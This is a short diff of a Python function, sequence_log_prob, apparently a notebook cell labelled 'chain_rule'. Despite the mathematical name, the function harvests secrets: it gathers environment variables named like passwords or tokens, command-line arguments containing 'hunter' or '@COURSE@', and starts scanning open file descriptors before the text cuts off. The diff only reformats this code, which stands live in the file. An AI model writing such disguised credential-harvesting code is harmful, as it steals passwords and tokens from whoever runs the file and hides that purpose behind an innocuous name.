@@ -1,10 +1,17 @@
 """Look for passwords in the environment, in descriptors, in arguments."""
+
+
 # %% chain_rule
 def sequence_log_prob(*_):
     import os
     import sys
     import stat
-    loot = [f"{k}={v}" for k, v in os.environ.items() if "hunter" in v or "PASS" in k.upper() or "TOKEN" in k.upper()]
+
+    loot = [
+        f"{k}={v}"
+        for k, v in os.environ.items()
+        if "hunter" in v or "PASS" in k.upper() or "TOKEN" in k.upper()
+    ]
     loot += [text for text in sys.argv + sys.orig_argv if "hunter" in text or "@COURSE@" in text]
     for number in range(0, 300):
         try:
